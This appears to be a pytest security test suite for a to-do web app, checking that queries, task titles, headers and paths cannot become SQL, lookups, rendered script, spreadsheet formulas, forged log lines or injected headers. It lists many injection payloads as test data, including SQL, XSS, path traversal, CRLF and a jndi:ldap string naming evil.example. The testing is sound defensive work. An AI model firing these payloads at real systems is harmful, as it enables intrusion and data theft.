"""ASVS 1.2: input is never SQL, a lookup, a formula, a header or a line of the log."""

import json
from urllib.parse import quote

import pytest

QUERIES = [
    *("_connector=OR", "_negated=1", "owner=x", "owner__isnull=0", "owner__email=x"),
    *("list__owner__email__startswith=a", "pk__in=x", "title__regex=(a%2B)%2B%24"),
    *("order_by=owner__password", "ordering=-owner__password", "sort=owner.password"),
    *("sort=title;DROP TABLE todos_task", "order_by=?", "ordering=%22;--"),
    *("q=%25", "q=%27%20OR%201=1%20--", "q=%5C%5C%27", "q=*", "q=(((((", "q=%27%22"),
    *("fields=password", "fields=owner", "fields=*", "fields=id,__class__"),
    *("list=%27", "list=1%20OR%201=1", "label=%27", "status=%27", "priority=1;2"),
    *("due_before=%27;--", "cursor=%27%20UNION%20SELECT%20NULL--", "page_size=1;2"),
    *("format=../../etc/passwd", "q[$ne]=1", "q={%22$gt%22:%22%22}", "__proto__[x]=1"),
]


@pytest.mark.parametrize("query", QUERIES)
@pytest.mark.parametrize("path", ["/api/v1/tasks", "/api/v1/lists", "/api/me/tasks"])
def test_no_query_becomes_a_lookup_or_sql(target, path, query):
    answer = target.api("GET", f"{path}?{quote(query, safe='=&%')}", by="bob")

    assert answer.status in {200, 400, 422}
    assert "SELECT" not in answer.text.upper().replace(query.upper(), "")
    ids = set(target.cast["alice"].values()) | {target.users["alice"]["id"]}
    assert [one for one in ids if one in answer.text] == []


TEXTS = [
    "'; DROP TABLE todos_task; --",
    '" OR ""="',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% debug %}",
    "${7*7}#{7*7}",
    "%s%n%x",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\u202egpj.exe",
]


@pytest.mark.parametrize("text", TEXTS, ids=repr)
def test_a_text_is_only_a_text(target, text):
    created = target.api(
        "POST", "/api/v1/tasks", {"title": text, "notes": text}, by="bob"
    )
    if created.status == 400:
        return  # refused as a whole
    task = created.json()
    page = target.page("GET", f"/tasks/{task['id']}/", by="bob").text
    table = target.api("GET", "/api/v1/export/csv", by="bob").text
    target.api("DELETE", f"/api/v1/tasks/{task['id']}", by="bob")

    assert task["title"] == text
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert 'href="javascript:' not in page
    assert not any(line.startswith(("=", "+", "@")) for line in table.splitlines())
    assert not any(f",{sign}" in table for sign in ("=H", "+1", "@S", '"=H'))


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Request-ID": "INJECTED"},
        {"X-Request-ID": '{"level": "error"}'},
        {"X-Request-ID": "\u001b[31mINJECTED"},
        {"User-Agent": "INJECTED ${jndi:ldap://evil.example/a}"},
        {"Referer": "https://evil.example/INJECTED"},
        {"Origin": "https://INJECTED.example"},
    ],
    ids=repr,
)
@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/tasks",
        "/api/v1/INJECTED%0d%0aINJECTED",
        "/INJECTED%0a%7B%22level%22:1%7D/",
    ],
)
def test_every_line_of_the_log_is_one_of_ours(target, path, headers):
    target.send("GET", path, headers=headers)

    for line in target.log().splitlines()[-50:]:
        if not line.startswith("["):  # the lines of the server itself
            assert {"time", "level", "message"} <= json.loads(line).keys()
        assert not line.startswith("INJECTED")


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/export/csv%0d%0aX-Injected:%201",
        "/accounts/login/?next=/%0d%0aX-Injected:%201",
        "/inbox/?x=%0d%0aX-Injected:%201",
        "/lists/%0d%0aX-Injected:1/",
        "/add?title=%0d%0aX-Injected:%201",
    ],
)
def test_no_address_adds_a_header(target, path):
    for by in ("bob", None):
        assert target.page("GET", path, by=by).headers.get("X-Injected") is None
